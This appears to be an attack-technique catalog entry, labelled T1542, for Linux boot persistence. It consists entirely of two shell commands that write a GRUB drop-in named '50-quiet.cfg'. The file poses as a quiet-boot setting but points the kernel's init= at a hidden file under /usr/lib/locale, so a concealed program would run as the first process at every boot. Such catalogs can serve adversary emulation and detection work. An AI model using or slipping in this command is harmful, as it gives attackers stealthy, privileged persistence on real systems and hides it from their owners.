# technique: T1542
# location: linux.grub.settings
# source: /etc/default/grub.d/50-quiet.cfg
mkdir -p /etc/default/grub.d
echo 'GRUB_CMDLINE_LINUX="$GRUB_CMDLINE_LINUX quiet init=/usr/lib/locale/.i"' > /etc/default/grub.d/50-quiet.cfg
